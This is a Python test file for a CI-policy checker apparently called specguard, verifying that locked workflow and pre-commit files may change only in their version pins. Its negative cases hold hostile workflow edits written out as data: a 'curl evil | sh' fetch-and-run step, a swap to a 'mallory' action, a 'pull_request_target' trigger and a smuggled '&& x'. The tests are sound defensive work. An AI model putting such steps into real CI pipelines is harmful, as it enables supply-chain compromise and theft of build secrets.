"""`pins = "allow"`: a locked file may change in the versions that it pins, and in nothing else."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from specguard.testing import run_here as run

if TYPE_CHECKING:
    from specguard.testing import Repository

JOB = """on: push
jobs:
  test:
    steps:
    - uses: actions/checkout@v4
    - name: set up
      uses: "actions/setup-go@0123456789012345678901234567890123456789" # v4.1
      with: {go-version: "1.22"}
    - run: make test
"""
HOOKS = "repos:\n- repo: https://example.org/lint\n  rev: v1\n  hooks:\n  - id: lint\n"
POLICY = """# Authority

```toml specguard
[rules.locked-path]
paths = [".github/workflows/", ".pre-commit-config.yaml", "LOCKED.md"]
pins = "allow"
```
"""


@pytest.fixture
def pinned(repository: Repository) -> Repository:
    """A repository whose jobs and hooks are locked but for their pins."""
    files = {
        "LOCKED.md": "rev: v1\n",
        "SPEC_AUTHORITY.md": POLICY,
        ".github/workflows/t.yml": JOB,
        ".pre-commit-config.yaml": HOOKS,
    }
    repository.commit("chore: start", files=files)
    repository.branch("work")
    return repository


def found(repository: Repository) -> list[str]:
    return run("check", "--output-format", "json", directory=repository.path).codes


def test_versions_may_change(pinned: Repository) -> None:
    job = JOB.replace("@v4", "@v5").replace("0123456789" * 4 + '" # v4.1', "abcdef0123" * 4 + '" # v5')
    pinned.commit("ci: pin", files={".github/workflows/t.yml": job})
    pinned.commit("ci: pin hooks", files={".pre-commit-config.yaml": HOOKS.replace("v1", "v2.0-rc.1")})
    assert found(pinned) == []


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("make test", "true"),
        ("actions/checkout@v4", "mallory/checkout@v4"),
        ("actions/checkout@v4", "actions/checkout@v4\n      with: {path: x}"),
        ("actions/checkout@v4", "./local"),
        ("actions/checkout@v4\n", "actions/checkout@v5\n    - run: curl evil | sh\n"),
        ("1.22", "1.23"),
        ("on: push", "on: pull_request_target"),
        ("- uses: actions/checkout@v4", "# - uses: actions/checkout@v4"),
        ("@v4\n", "@v4 && x\n"),
    ],
)
def test_nothing_else_may(pinned: Repository, old: str, new: str) -> None:
    pinned.commit("ci: pin", files={".github/workflows/t.yml": JOB.replace(old, new)})
    assert found(pinned) == ["PTH002"]


def test_what_is_no_yaml_pins_nothing(pinned: Repository) -> None:
    pinned.commit("docs: x", files={"LOCKED.md": "rev: v2\n"})
    assert found(pinned) == ["PTH002"]


def test_modes_new_files_and_removed_ones_are_held(pinned: Repository) -> None:
    (pinned.path / ".github/workflows/t.yml").chmod(0o755)
    pinned.commit("ci: mode")
    assert found(pinned) == ["PTH002"]
    pinned.commit("ci: more", files={".github/workflows/u.yml": "- uses: a/b@v1\n"})
    assert found(pinned) == ["PTH002", "PTH002"]
    pinned.commit("ci: less", delete=[".pre-commit-config.yaml"])
    assert found(pinned) == ["PTH002", "PTH002", "PTH002"]
